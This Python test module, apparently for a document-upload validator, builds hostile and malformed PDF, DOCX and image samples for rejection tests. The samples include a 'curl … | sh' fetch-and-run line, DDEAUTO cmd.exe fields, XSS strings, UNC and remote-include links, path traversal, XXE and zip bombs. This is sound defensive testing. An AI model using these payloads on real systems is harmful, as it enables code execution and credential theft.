        _paragraph('<w:bookmarkStart w:id="0" w:name="_Ref1"/><w:r><w:t>Inleiding</w:t></w:r>'
                   '<w:bookmarkEnd w:id="0"/>'),
        _paragraph(_runs_field(" TOC \\o \"1-3\" \\h \\z \\u ")),
        _paragraph(_simple_field(" PAGE \\* MERGEFORMAT ") + _runs_field(" NUM", "PAGES ")),
        _paragraph(_runs_field(' DATE \\@ "d MMMM yyyy" ', result="1 januari 2026")),
        _paragraph(_simple_field(" REF _Ref1 \\h ") + _simple_field(" MERGEFIELD werknaam ")),
        _paragraph(_runs_field(' HYPERLINK "https://www.nijmegen.nl/zorg" \\o "Gemeente" ')),
        _paragraph(_simple_field(' HYPERLINK "mailto:stapteam@nijmegen.invalid" ')),
        _paragraph(_simple_field(' HYPERLINK \\l "_Ref1" ')),
        _paragraph(_nested_field(" IF ", " MERGEFIELD werknaam ", ' = "" "x" "y" ')))


def _nested_field(before: str, inner: str, after: str) -> str:
    """An outer complex field with a complete inner field in the middle of its instruction."""
    def instruction(text: str) -> str:
        return f'<w:r><w:instrText xml:space="preserve">{escape_xml(text)}</w:instrText></w:r>'
    return ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + instruction(before)
            + _runs_field(inner) + instruction(after)
            + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>')


# --- Image helpers -------------------------------------------------------------------------

def _image(fmt: str, **options) -> bytes:
    picture = Image.new("RGB", (24, 16), (40, 120, 200))
    for x in range(24):
        picture.putpixel((x, x % 16), (250, 250, 30))
    buffer = io.BytesIO()
    picture.save(buffer, format=fmt, **options)
    return buffer.getvalue()


@lru_cache(maxsize=1)
def jpeg_image() -> bytes:
    return _image("JPEG", quality=85)


@lru_cache(maxsize=1)
def png_image() -> bytes:
    return _image("PNG")


def _png_chunks(data: bytes) -> list[tuple[bytes, bytes]]:
    chunks, position = [], 8
    while position < len(data):
        (length,) = struct.unpack_from(">I", data, position)
        kind = data[position + 4:position + 8]
        chunks.append((kind, data[position + 8:position + 8 + length]))
        position += 12 + length
    return chunks


def _png_from(chunks: list[tuple[bytes, bytes]]) -> bytes:
    out = bytearray(b"\x89PNG\r\n\x1a\n")
    for kind, body in chunks:
        out += struct.pack(">I", len(body)) + kind + body
        out += struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)
    return bytes(out)


def _png_bad_crc() -> bytes:
    data = bytearray(png_image())
    data[29] ^= 0xFF  # the last byte of the IHDR CRC
    return bytes(data)


def _png_without_idat() -> bytes:
    return _png_from([c for c in _png_chunks(png_image()) if c[0] != b"IDAT"])


def _png_iend_first() -> bytes:
    chunks = _png_chunks(png_image())
    return _png_from([chunks[-1], *chunks])


def _jpeg_segments_without(marker: int) -> bytes:
    """The JPEG with every header segment of this marker type removed."""
    data = jpeg_image()
    out, position = bytearray(data[:2]), 2
    while position < len(data):
        kind = data[position + 1]
        (length,) = struct.unpack_from(">H", data, position + 2)
        segment = data[position:position + 2 + length]
        if kind == 0xDA:  # start of scan: the rest is image data up to EOI
            out += data[position:]
            break
        if kind != marker:
            out += segment
        position += 2 + length
    return bytes(out)


def _png_declaring(width: int, height: int) -> bytes:
    """A valid small PNG whose header declares this size (the data would never fill it)."""
    chunks = _png_chunks(png_image())
    header = struct.pack(">II", width, height) + chunks[0][1][8:]
    return _png_from([(b"IHDR", header), *chunks[1:]])


def _jpeg_declaring(width: int, height: int) -> bytes:
    data = bytearray(jpeg_image())
    frame = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, frame + 5, height, width)
    return bytes(data)


def _jpeg_without_scan() -> bytes:
    data = jpeg_image()
    return data[:data.index(b"\xff\xda")] + b"\xff\xd9"


# --- The corpus ----------------------------------------------------------------------------

def _random_bytes(size: int, seed: int) -> bytes:
    generator = random.Random(seed)
    return b"\x00\x13" + bytes(generator.getrandbits(8) for _ in range(size))


def _script_files() -> list[Sample]:
    return [
        Sample("leeg.pdf", b"", "leeg"),
        Sample("willekeurig.pdf", _random_bytes(4096, 7), "onbekend_type"),
        Sample("tekst-als-pdf.pdf", "Gewone tekst over een cliënt, geen PDF.\n".encode() * 20,
               "onbekend_type"),
        Sample("pagina.pdf", b"<!DOCTYPE html><html><body><script>fetch('/api')</script>"
                             b"</body></html>", "onbekend_type"),
        Sample("tekening.svg.pdf", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/'
                                   b'svg"><script>alert(document.domain)</script></svg>',
               "onbekend_type"),
        Sample("programma.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(50)
               + b"PE\x00\x00" + _random_bytes(512, 3), "onbekend_type"),
        Sample("installeer.pdf", b"#!/bin/sh\ncurl https://kwaad.invalid/x | sh\n",
               "onbekend_type"),
        Sample("elf.docx", b"\x7fELF\x02\x01\x01" + bytes(100), "onbekend_type"),
        Sample("brief.rtf.docx", b"{\\rtf1\\ansi{\\object\\objemb}}", "onbekend_type"),
        Sample("leeg-archief.docx", b"PK\x05\x06" + bytes(18), "onbekend_type"),
        Sample("oud-word.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
               "oud_office"),
        Sample("versleuteld-office.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
               + b"EncryptedPackage".ljust(504, b"\x00"), "oud_office"),
    ]


def _pdf_files() -> list[Sample]:
    good = minimal_pdf("Afgekapt document")
    return [
        Sample("afgekapt.pdf", good[:len(good) // 3], "pdf_kapot"),
        Sample("kop-met-rommel.pdf", b"%PDF-1.7\n" + _random_bytes(2048, 11), "pdf_kapot"),
        Sample("openactie-js.pdf", _pdf_with(_open_action_js), "pdf_javascript"),
        Sample("names-js.pdf", _pdf_with(_names_js), "pdf_javascript"),
        Sample("launch-link.pdf", _pdf_with(_launch_link), "pdf_programma"),
        Sample("launch-bij-openen.pdf", _pdf_with(_launch_open), "pdf_programma"),
        Sample("pagina-aa.pdf", _pdf_with(_page_aa), "pdf_javascript"),
        Sample("document-aa-js.pdf", _pdf_with(_catalog_aa_js), "pdf_javascript"),
        Sample("formulierveld-js.pdf", _pdf_with(_field_js), "pdf_javascript"),
        Sample("link-js.pdf", _pdf_with(_link_js), "pdf_javascript"),
        Sample("uri-dan-js.pdf", _pdf_with(_next_chain), "pdf_javascript"),
        Sample("ingesloten.pdf", _pdf_with(_attachment), "pdf_bijlage"),
        Sample("bijlage-annotatie.pdf", _pdf_with(_file_annotation), "pdf_bijlage"),
        Sample("goto-ingesloten.pdf", _pdf_with(_link_to(_go_to_embedded())), "pdf_bijlage"),
        Sample("richmedia.pdf", _pdf_with(_rich_media), "pdf_multimedia"),
        Sample("rendition.pdf", _pdf_with(_link_to(_rendition())), "pdf_multimedia"),
        Sample("rendition-bij-openen.pdf", _pdf_with(_open_with(_rendition())),
               "pdf_multimedia"),
        Sample("geluid.pdf", _pdf_with(_link_to(_sound())), "pdf_multimedia"),
        Sample("scherm-annotatie.pdf", _pdf_with(_screen), "pdf_multimedia"),
        Sample("gotor-netwerkmap.pdf", _pdf_with(_link_to(_go_to_remote())), "pdf_extern"),
        Sample("gotor-bij-openen.pdf", _pdf_with(_open_with(_go_to_remote())), "pdf_extern"),
        Sample("artikel-in-ander-bestand.pdf", _pdf_with(_link_to(_thread_elsewhere())),
               "pdf_extern"),
        Sample("link-javascript.pdf", _pdf_with(_link_to(_uri("javascript:alert(1)"))),
               "pdf_link"),
        Sample("link-file.pdf", _pdf_with(_link_to(_uri("file:///C:/Windows/win.ini"))),
               "pdf_link"),
        Sample("link-unc.pdf", _pdf_with(_link_to(_uri("\\\\server\\share\\x.pdf"))),
               "pdf_link"),
        Sample("onbekende-actie.pdf", _pdf_with(_open_with(_dict(s=_name("/Zelfverzonnen")))),
               "pdf_actie"),
        Sample("menu-actie.pdf", _pdf_with(_link_to(_dict(s=_name("/Named"),
                                                          n=_name("/SaveAs")))), "pdf_actie"),
        Sample("versleuteld.pdf", _encrypted("wachtwoord"), "pdf_versleuteld"),
        Sample("versleuteld-aes256.pdf", _encrypted("geheim", "AES-256"), "pdf_versleuteld"),
        Sample("xfa.pdf", _pdf_with(_xfa), "pdf_formulier"),
        Sample("verzend-formulier.pdf", _pdf_with(_submit_form), "pdf_verzenden"),
        Sample("verzendknop.pdf", _pdf_with(_field_submit), "pdf_verzenden"),
        Sample("importdata.pdf", _pdf_with(_import_data), "pdf_importeren"),
        Sample("geen-paginas.pdf", _no_pages(), "pdf_geen_paginas"),
        Sample("js-in-objectstroom.pdf", _js_in_object_stream(), "pdf_javascript"),
        Sample("namen-met-hekje.pdf", _escaped_names(), "pdf_javascript"),
        Sample("paginaboom-kringloop.pdf", _cyclic_pages(), "pdf_kapot"),
        Sample("objectstroom-bom.pdf", _object_stream_bomb(), "pdf_kapot"),
    ]


def _docx_files() -> list[Sample]:
    rels_name = "_rels/.rels"
    return [
        Sample("met-macro.docx", _docx_variant(add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"
                                                    + bytes(100)}), "docx_macro"),
        Sample("docm-hernoemd.docx", _macro_content_types(), "docx_macro"),
        Sample("xxe-document.docx", _doctype_in("word/document.xml"), "docx_doctype"),
        Sample("xxe-contenttypes.docx", _doctype_in(CONTENT_TYPES), "docx_doctype"),
        Sample("xxe-rels.docx", _doctype_in(rels_name), "docx_doctype"),
        Sample("extern-sjabloon.docx", _external_template(), "docx_extern"),
        Sample("extern-sjabloon-enkele-quotes.docx", _external_template_single_quotes(),
               "docx_extern"),
        Sample("doctype-in-hernoemd-deel.docx", _doctype_in_renamed_part(), "docx_doctype"),
        Sample("extern-plaatje.docx", _external_image(), "docx_extern"),
        Sample("ole-relatie.docx", _document_rels_plus(
            _relationship("rId91", "oleObject", "embeddings/object1.dat")), "docx_object"),
        Sample("ole-ingesloten.docx", _docx_variant(
            add={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + bytes(60)}),
            "docx_object"),
        Sample("activex.docx", _docx_variant(
            add={"word/activeX/activeX1.xml": b'<?xml version="1.0"?><ax:ocx/>'}),
            "docx_object"),
        Sample("zipbom.docx", _zip_bomb(), "zip_bom"),
        Sample("te-veel-delen.docx", _many_entries(), "zip_te_veel_delen"),
        Sample("gewone-zip.docx", _zip({"notities.txt": b"boodschappen"}), "zip_geen_docx"),
        Sample("kapotte-zip.docx", _truncated_central_directory(), "zip_kapot"),
        Sample("versleuteld-deel.docx", _encrypted_member(), "zip_kapot"),
        Sample("pad-omhoog.docx", _docx_variant(add={"word/../../ontsnapt.xml": b"<a/>"}),
               "docx_pad"),
        Sample("pad-absoluut.docx", _docx_variant(add={"/etc/cron.d/taak": b"* * * * *"}),
               "docx_pad"),
        Sample("pad-backslash.docx", _docx_variant(add={"word\\..\\..\\x.xml": b"<a/>"}),
               "docx_pad"),
        Sample("lzma-kapot.docx", _garbled_lzma(), "zip_kapot"),
        Sample("xxe-utf16.docx", _utf16_doctype(), "docx_codering"),
        Sample("extern-sjabloon-utf16.docx", _utf16_external_template(), "docx_codering"),
        Sample("extern-sjabloon-op-blokgrens.docx", _template_across_read_blocks(),
               "docx_extern"),
        Sample("pakket-in-media.docx", _package_in_media(), "docx_object"),
        *_field_samples(),
    ]


UNC_PICTURE = 'INCLUDEPICTURE "\\\\\\\\server\\\\share\\\\x.png" \\d'


def _field_samples() -> list[Sample]:
    """Word fields and links that reach outside the document, in every place Word reads them."""
    return [
        Sample("ddeauto-in-runs.docx", _docx_with_body(_paragraph(_runs_field(
            " DDE", "AUTO c:\\\\windows\\\\system32\\\\cmd.exe ", '"/k calc" ')))
            , "docx_dde"),
        Sample("dde-fldsimple.docx", _docx_with_body(_paragraph(_simple_field(
            ' dde "excel" "blad1!r1c1" '))), "docx_dde"),
        Sample("dde-in-voetnoot.docx", docx_with_footnote(_runs_field(" DDEAUTO cmd \"/c x\" ")),
               "docx_dde"),
        Sample("includepicture-unc.docx", _docx_with_body(_paragraph(_simple_field(
            UNC_PICTURE))), "docx_veld"),
        Sample("includepicture-http-in-runs.docx", _docx_with_body(_paragraph(_runs_field(
            " INCLUDEPIC", 'TURE "http://volg.invalid/', 'pixel.png" \\d '))), "docx_veld"),
        Sample("includetext-in-koptekst.docx", _docx_with_header(_runs_field(
            ' INCLUDETEXT "http://kwaad.invalid/tekst.docx" ')), "docx_veld"),
        Sample("includepicture-in-opmerking.docx", _docx_with_comment(_simple_field(
            UNC_PICTURE)), "docx_veld"),
        Sample("link-veld.docx", _docx_with_body(_paragraph(_simple_field(
            ' LINK Excel.Sheet.12 "C:\\\\gegevens\\\\lijst.xlsx" "Blad1" \\a '))),
            "docx_veld"),
        Sample("import-veld.docx", _docx_with_body(_paragraph(_runs_field(
            ' IMPORT "https://kwaad.invalid/x.wmf" '))), "docx_veld"),
        Sample("url-in-gewoon-veld.docx", _docx_with_body(_paragraph(_nested_field(
            " IF 1 = 1 ", ' QUOTE "x" ', ' "\\\\\\\\server\\\\share\\\\y.png" '))),
            "docx_veld"),
        Sample("includepicture-genest.docx", _docx_with_body(_paragraph(_nested_field(
            " IF 1 = 1 ", ' INCLUDEPICTURE "http://volg.invalid/p.png" ', ' "" '))),
            "docx_veld"),
        Sample("includepicture-in-addin.docx", _docx_with_body(_paragraph(_nested_field(
            " ADDIN ZOTERO_ITEM ", ' INCLUDEPICTURE "http://volg.invalid/p.png" ', " {} "))),
            "docx_veld"),
        Sample("hyperlink-javascript.docx", _hyperlink_to("javascript:alert(document.cookie)"),
               "docx_link"),
        Sample("hyperlink-verstopt-javascript.docx", _hyperlink_to("  JaVa\tScRiPt:alert(1)"),
               "docx_link"),
        Sample("hyperlink-file.docx", _hyperlink_to("file:///C:/Windows/win.ini"), "docx_link"),
        Sample("hyperlink-unc.docx", _hyperlink_to("\\\\server\\share\\lijst.xlsx"),
               "docx_link"),
        Sample("hyperlink-veld-javascript.docx", _docx_with_body(_paragraph(_runs_field(
            ' HYPERLINK "javascript:alert(1)" '))), "docx_link"),
        Sample("altchunk.docx", _alt_chunk(), "docx_altchunk"),
        Sample("altchunk-element.docx", _alt_chunk_element_only(), "docx_altchunk"),
        Sample("document-geen-xml.docx", _broken_main_part(), "docx_onleesbaar"),
        Sample("document-leeg.docx", _empty_main_part(), "docx_onleesbaar"),
    ]


def _image_files() -> list[Sample]:
    png, jpeg = png_image(), jpeg_image()
    return [
        Sample("scan.jpg", jpeg, "type_niet_voor_soort", OVERIG),
        Sample("scan.png", png, "type_niet_voor_soort", OVERIG),
        Sample("afgekapt.png", png[:len(png) - 30], "afbeelding_kapot", REGISTRATIE),
        Sample("foute-crc.png", _png_bad_crc(), "afbeelding_kapot", REGISTRATIE),
        Sample("iend-eerst.png", _png_iend_first(), "afbeelding_kapot", REGISTRATIE),
        Sample("zonder-idat.png", _png_without_idat(), "afbeelding_kapot", REGISTRATIE),
        Sample("png-met-zip.png", png + _zip({"lees.txt": b"verstopt"}), "afbeelding_extra",
               REGISTRATIE),
        Sample("jpeg-met-staart.jpg", jpeg + b"<script>alert(1)</script>", "afbeelding_extra",
               REGISTRATIE),
        Sample("afgekapt.jpg", jpeg[:len(jpeg) // 2], "afbeelding_kapot", REGISTRATIE),
        Sample("zonder-frame.jpg", _jpeg_segments_without(0xC0), "afbeelding_kapot",
               REGISTRATIE),
        Sample("zonder-scan.jpg", _jpeg_without_scan(), "afbeelding_kapot", REGISTRATIE),
        Sample("reuzen-png.png", _png_declaring(100_000, 100_000), "afbeelding_te_groot",
               REGISTRATIE),
        Sample("reuzen-jpeg.jpg", _jpeg_declaring(60_000, 60_000), "afbeelding_te_groot",
               REGISTRATIE),
        Sample("net-te-groot.png", _png_declaring(10_000, 5_001), "afbeelding_te_groot",
               REGISTRATIE),
    ]


@lru_cache(maxsize=1)
def hostile_corpus() -> tuple[Sample, ...]:
    """Every hostile or broken file, built once per test run."""
    samples = (*_script_files(), *_pdf_files(), *_docx_files(), *_image_files())
    names = [sample.name for sample in samples]
    assert len(names) == len(set(names)), "sample names must be unique (they are test ids)"
    return samples


@lru_cache(maxsize=1)
def good_files() -> tuple[GoodFile, ...]:
    return (
        GoodFile("verslag.pdf", minimal_pdf("Verslag van het gesprek"), "pdf"),
        GoodFile("met-link.pdf", good_link_pdf(), "pdf"),
        GoodFile("met-hyperlink.docx", good_hyperlink_docx(), "docx"),
        GoodFile("met-foto.docx", good_picture_docx(), "docx"),
        GoodFile("scan.jpg", jpeg_image(), "jpeg", REGISTRATIE),
        GoodFile("scan.png", png_image(), "png", REGISTRATIE),
        GoodFile("versleuteld-leeg-wachtwoord.pdf", encrypted_with_empty_password(), "pdf"),
        GoodFile("rc4-leeg-wachtwoord.pdf", _encrypted(""), "pdf"),
        GoodFile("navigatie.pdf", _pdf_with(_navigation), "pdf"),
        GoodFile("openactie-goto.pdf", _pdf_with(_open_action_goto), "pdf"),
        GoodFile("formulier-zonder-script.pdf", _pdf_with(_plain_form), "pdf"),
        GoodFile("printerinstellingen.docx", docx_with_printer_settings(), "docx"),
        GoodFile("gewone-velden.docx", docx_with_ordinary_fields(), "docx"),
        GoodFile("mailto-hyperlink.docx", _hyperlink_to("mailto:stapteam@nijmegen.invalid"),
                 "docx"),
        GoodFile("voetnoot-met-paginaveld.docx", docx_with_footnote(_simple_field(" PAGE ")),
                 "docx"),
        GoodFile("koptekst-met-datum.docx", _docx_with_header(_runs_field(" DATE ")), "docx"),
        GoodFile("zotero-bronvermelding.docx", _docx_with_body(_paragraph(_runs_field(
            ' ADDIN ZOTERO_ITEM CSL_CITATION {"citationItems":[{"uris":["http://zotero.org/'
            'users/1/items/ABC"],"itemData":{"URL":"https://doi.org/10.1000/xyz"}}]} ',
            result="(Jansen, 2020)"))), "docx"),
        GoodFile("precies-50-megapixel.png", _png_declaring(10_000, 5_000), "png",
                 REGISTRATIE),
    )
